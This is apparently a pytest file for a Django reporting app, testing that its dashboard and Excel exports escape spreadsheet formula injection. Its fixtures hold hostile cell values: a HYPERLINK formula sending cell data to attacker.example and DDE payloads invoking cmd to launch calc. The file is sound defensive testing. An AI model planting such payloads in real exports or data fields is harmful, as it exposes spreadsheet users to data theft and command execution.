"""No exported spreadsheet cell runs as a formula, whatever text users and administrators typed.

Every export path: the dashboards' CSV and xlsx, and the Excel page's templates and exports. Text starting
with = + - @ tab or CR is kept as text; numbers, negative ones included, stay numbers.
"""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from communes.models import Unit, User
from indicators.excel import exports, imports
from indicators.excel.spreadsheets import (
    FORMULA_STARTS,
    LAYOUTS,
    SCORES,
    STATS,
    escape_formula,
    looks_like_formula,
    write_workbook,
)
from indicators.models import COUNT_FIELDS, AreaScore, Period, ProcedureField, ReformArea
from tests.fixtures_xlsx.builders import make_user

pytestmark = pytest.mark.django_db

NGOC_KY, TIEN_DONG = "11089", "11143"
# What administrators could type (the admin does not stop it) and users could write in a note.
HOSTILE_CODES = {NGOC_KY: "=1+2", TIEN_DONG: "@A1"}
HOSTILE_UNIT_NAME = (
    '=HYPERLINK("https://attacker.example/?x="&A1,"Xem")'  # also ":" and "/", not in sheet names
)
HOSTILE_FIELD = "+cmd|' /C calc'!A0"
HOSTILE_AREAS = {1: "-1+2", 2: "\t=1+1"}
HOSTILE_NOTE = "@SUM(1+1)*cmd|' /C calc'!A0"
DASHBOARDS = [
    ("home", []),
    ("ranking", []),
    ("overdue", []),
    ("digitization", []),
    ("online_payment", []),
    ("submissions", []),
    ("commune_profile", [HOSTILE_CODES[NGOC_KY]]),
]


@pytest.fixture
def staff():
    return make_user("noi.vu", User.Role.DISTRICT_STAFF, "298")


@pytest.fixture
def hostile():
    score = AreaScore.objects.filter(unit__code=NGOC_KY, period=Period.objects.get_by_code("2023-H1")).first()
    AreaScore.objects.filter(pk=score.pk).update(note=HOSTILE_NOTE)
    Unit.objects.filter(code=NGOC_KY).update(name=HOSTILE_UNIT_NAME)
    for code, hostile_code in HOSTILE_CODES.items():
        Unit.objects.filter(code=code).update(code=hostile_code)
    ProcedureField.objects.filter(pk=ProcedureField.objects.first().pk).update(name=HOSTILE_FIELD)
    for number, name in HOSTILE_AREAS.items():
        ReformArea.objects.filter(number=number).update(name=name)


def xlsx_text(content):
    """[(text, quote prefix)] of every text cell; fails on any formula cell."""
    texts = []
    for sheet in load_workbook(io.BytesIO(content)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    texts.append((cell.value, cell.quotePrefix))
    return texts


def assert_csv_is_safe(text):
    cells = [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]
    for cell in cells:
        if cell.startswith(FORMULA_STARTS):
            float(cell)  # only a negative number may start with a minus sign
    return cells


@pytest.mark.parametrize("name, args", DASHBOARDS)
def test_dashboard_exports_escape_formulas(client, hostile, name, args):
    client.force_login(make_user("lanh.dao", User.Role.LEADER, "298"))
    params = {"period": "2023-H1"}
    csv_response = client.get(reverse(name, args=args), {**params, "format": "csv"})
    xlsx_response = client.get(reverse(name, args=args), {**params, "format": "xlsx"})
    assert csv_response.status_code == xlsx_response.status_code == 200
    cells = assert_csv_is_safe(csv_response.content.decode("utf-8"))
    texts = xlsx_text(xlsx_response.content)
    for value, _quoted in texts:
        assert not looks_like_formula(value), value
    # Where the page lists the units' codes, they come out behind an apostrophe, in both formats.
    if name in ("ranking", "online_payment", "overdue"):
        for code in HOSTILE_CODES.values():
            assert "'" + code in cells and ("'" + code, False) in texts


@pytest.mark.parametrize("kind", [STATS, SCORES])
@pytest.mark.parametrize("url", ["exchange_template", "exchange_export"])
def test_excel_page_workbooks_keep_formula_text_as_text(client, hostile, staff, kind, url):
    client.force_login(staff)
    response = client.get(reverse(url), {"period": "2023-H1", "kind": kind})
    assert response.status_code == 200
    texts = xlsx_text(response.content)
    formula_like = {value for value, quoted in texts if looks_like_formula(value)}
    assert all(quoted for value, quoted in texts if looks_like_formula(value))
    expected = {*HOSTILE_CODES.values(), *([HOSTILE_FIELD] if kind == STATS else HOSTILE_AREAS.values())}
    if kind == SCORES and url == "exchange_export":
        expected.add(HOSTILE_NOTE)
    assert expected <= formula_like


def test_an_exported_workbook_imports_back_unchanged(hostile, staff):
    """The text is kept as it was (no apostrophe added), so a round trip changes nothing."""
    period = Period.objects.get_by_code("2023-H1")
    content, _name = exports.workbook(staff, period, SCORES, template=False)
    plan = imports.build_plan(content, staff)
    assert plan.is_valid, [str(problem) for problem in plan.problems]
    assert plan.rows and not plan.changing
    assert any(row.values["note"] == HOSTILE_NOTE for row in plan.rows)


def test_numbers_stay_numbers_and_only_text_is_escaped():
    assert escape_formula(-3) == -3 and escape_formula(-1.5) == -1.5 and escape_formula(None) is None
    assert [escape_formula(text) for text in ("=1", "+1", "-1", "@A", "\t=1", "\r=1", "1-2", "")] == [
        "'=1",
        "'+1",
        "'-1",
        "'@A",
        "'\t=1",
        "'\r=1",
        "1-2",
        "",
    ]
    content = write_workbook(LAYOUTS[STATS], [{"unit_code": "-1", "unit_name": "=1+2", COUNT_FIELDS[0]: -3}])
    sheet = load_workbook(io.BytesIO(content)).active
    unit_code, unit_name, received = sheet["B2"], sheet["C2"], sheet.cell(2, 6)
    assert (unit_code.value, unit_code.data_type, unit_code.quotePrefix) == ("-1", "s", True)
    assert (unit_name.value, unit_name.data_type, unit_name.quotePrefix) == ("=1+2", "s", True)
    assert (received.value, received.data_type, received.quotePrefix) == (-3, "n", False)
